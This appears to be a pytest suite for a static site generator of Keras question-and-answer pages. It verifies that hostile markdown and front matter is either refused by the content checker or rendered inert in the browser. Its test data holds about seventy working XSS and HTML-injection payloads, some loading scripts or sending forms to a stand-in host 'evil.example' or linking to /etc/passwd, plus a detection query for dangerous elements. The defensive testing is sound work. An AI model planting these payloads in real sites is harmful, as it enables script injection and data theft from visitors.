"""Content cannot attack a reader: what is hostile is refused with its line, or stands there as harmless text."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from conftest import PageOpener
from prep import problems, site
from project import QUESTION, Project, small_project, with_pages

ATTACK = "window.attacked=1"
PROVOKE = """
for (const element of document.querySelectorAll("main *"))
  for (const event of ["mouseover", "error", "load", "focus", "toggle"]) element.dispatchEvent(new Event(event))
"""
FIND_DANGEROUS = r"""
[...document.querySelectorAll("article.md-content__inner *")].filter((element) =>
  element.matches("script,iframe,object,embed,style,meta,base,svg,link:not([href^='../']),form:not([aria-label])")
    && element.type !== "application/ld+json"
  || [...element.attributes].some(({ name }) => name.startsWith("on") || name === "style")
  || /^\s*(javascript|data|vbscript|file):/i.test(element.getAttribute("href") ?? "")
).map((element) => element.outerHTML)
"""
# In the text of an answer.
IN_TEXT = [
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script>",
    "<script src=//evil.example/x.js></script>",
    "Text <script>{}</script> text",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<IMG SRC=x OnError={}>",
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q></form>",
    "<button onclick={}>x</button>",
    "<details ontoggle={} open>x</details>",
    "<video><source onerror={}></video>",
    "<body onload={}>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<kbd onclick={}>K</kbd>",
    "<kbd style='position:fixed'>K</kbd>",
    "<a href='javascript:{}'>x</a>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "<!--><script>{}</script>-->",
    "<!-- x --><script>{}</script>",
    "<!--- x --!><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml <script>{}</script> ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>{}</script>'>]>",
    "</details></article><script>{}</script>",
    "</div></div></div><h1>Owned</h1>",
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java&#115;cript:{})",
    "[x](&#x6A;avascript:{})",
    "[x](<java\tscript:{}>)",
    "[x](java%0ascript:{})",
    "[x](\x01javascript:{})",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>{}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](file:///etc/passwd)",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "![x](javascript:{})",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="{}](x.png)',
    '[x](https://ok.example/ "t" onmouseover="{}")',
    '[x](https://ok.example/"onmouseover={})',
    "```python onload={}\nx\n```",
    '```"><script>{}</script>\nx\n```',
    "```html\n<script>{}</script></code></pre><script>{}</script>\n```",
    "```text\n</pre></div><img src=x onerror={}>\n```",
    "`</code><script>{}</script>`",
    "| a |\n| --- |\n| <script>{}</script> |",
    "[^1]\n\n[^1]: <script>{}</script>",
    "[^<script>]\n\n[^<script>]: x",
    "{{{{ config }}}} {{% import os %}} ${{{}}}",
    "\u202e<tpircs>",
    "### <script>{}</script>",
    "### x {{onclick={}}}",
    "<sub><sup></sub></sup>",
]
# In the fields of the front matter, the title and the vocabulary.
FIELDS = [
    ("[keras]", "['<script>{}</script>']"),
    ("[keras]", "['\" onmouseover=\"{}']"),
    ("What happens when you compile a model?", "<script>{}</script>"),
    ("https://keras.io/api/models/model_training_apis/", "javascript:{}"),
    ("https://keras.io/api/models/model_training_apis/", 'https://x.example/" onmouseover="{}'),
    ("https://keras.io/api/models/model_training_apis/", "'https://x.example/\"><script>{}</script>'"),
    ("https://keras.io/api/models/model_training_apis/", "https://evil.example@x.example/"),
    ("What does `compile()` configure?", "<script>{}</script>?"),
    ("What does `compile()` configure?", "`<script>{}</script>`?"),
    ("What does `compile()` configure?", "\\<script>{}\\</script>?"),
    ("What does `compile()` configure?", "&lt;script&gt;{}&lt;/script&gt;?"),
    ("What does `compile()` configure?", "</title></head><script>{}</script>?"),
    ("It sets the optimizer, the loss and the metrics.", "<img src=x onerror={}>"),
    ("It sets the optimizer, the loss and the metrics.", "`</p><script>{}</script>`"),
    ("2026-01-31", "'<script>{}</script>'"),
]
CASES = [QUESTION.replace("More about it.", text.format(*[ATTACK] * 2)) for text in IN_TEXT] + [
    QUESTION.replace(old, new.format(ATTACK)) for old, new in FIELDS
]


def refused(project: Project) -> bool:
    found = site.read(project.root)[1]
    for line in problems.lines(found):
        assert re.match(r"content/[a-z0-9/.-]+:[1-9][0-9]*: ", line)
    return bool(found)


@pytest.fixture(scope="module")
def accepted(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A site of all cases that the checker lets pass."""
    project = with_pages(small_project(tmp_path_factory.mktemp("hostile")))
    (project.root / "content/questions/keras-api/compile.md").unlink()
    for number, text in enumerate(CASES):
        text = re.sub(r"^# (.*)$", rf"# {number} \1", text, count=1, flags=re.MULTILINE)
        file = project.question(text, f"case-{number}")
        if refused(project):
            file.unlink()
    project.write(
        "content/sheets/all.md",
        "---\nquestions:\n"
        + "".join(f"  - {file.stem}\n" for file in sorted((project.root / "content/questions/keras-api").iterdir()))
        + "---\n# All\n",
    )
    project.build(with_search=True)
    site.publish(project.root)
    return project


def test_there_are_enough_cases() -> None:
    assert len(CASES) >= 60


@pytest.mark.slow
def test_what_passes_the_checks_is_inert(accepted: Project, open_page: PageOpener) -> None:
    names = sorted(path.stem for path in (accepted.root / "content/questions/keras-api").iterdir())
    assert 5 <= len(names) < len(CASES) / 2, names
    address = open_page.serve(accepted.root / "site")
    for path in ("questions/keras-api/", "questions/", "sheets/all/", ""):
        page = open_page(address + path)
        page.evaluate("for (const answer of document.querySelectorAll('details')) answer.open = true")
        page.evaluate(PROVOKE)
        assert page.evaluate("window.attacked") is None
        assert page.evaluate(FIND_DANGEROUS) == []
        assert page.locator("h1").count() == 1


def test_sheets_and_vocabulary_are_judged_too(tmp_path: Path) -> None:
    project = small_project(tmp_path)
    attack = "<script>alert(1)</script>"
    project.write("content/topics.yml", f"- {{key: keras-api, title: '{attack}', summary: '{attack}'}}\n")
    project.write("content/sheets/mine.md", f"---\nquestions: [compile]\n---\n# A {attack}\n\n{attack}\n")
    project.write("content/tags.yml", f"keras: K\n'{attack}': x\n")
    complaints = project.complaints()
    for start in ("content/topics.yml:1: title", "content/sheets/mine.md:4: html", "content/tags.yml:2: tags"):
        assert any(line.startswith(start) for line in complaints), start
    project.write("content/topics.yml", f"- {{key: keras-api, title: Keras, summary: '{attack}'}}\n")
    project.write("content/tags.yml", "keras: K\n")
    (project.root / "content/sheets/mine.md").unlink()
    project.build()
    for page in ("index.md", "questions/keras-api.md"):
        assert "<script>alert" not in project.read(f"docs/{page}").split("---\n", 2)[2]
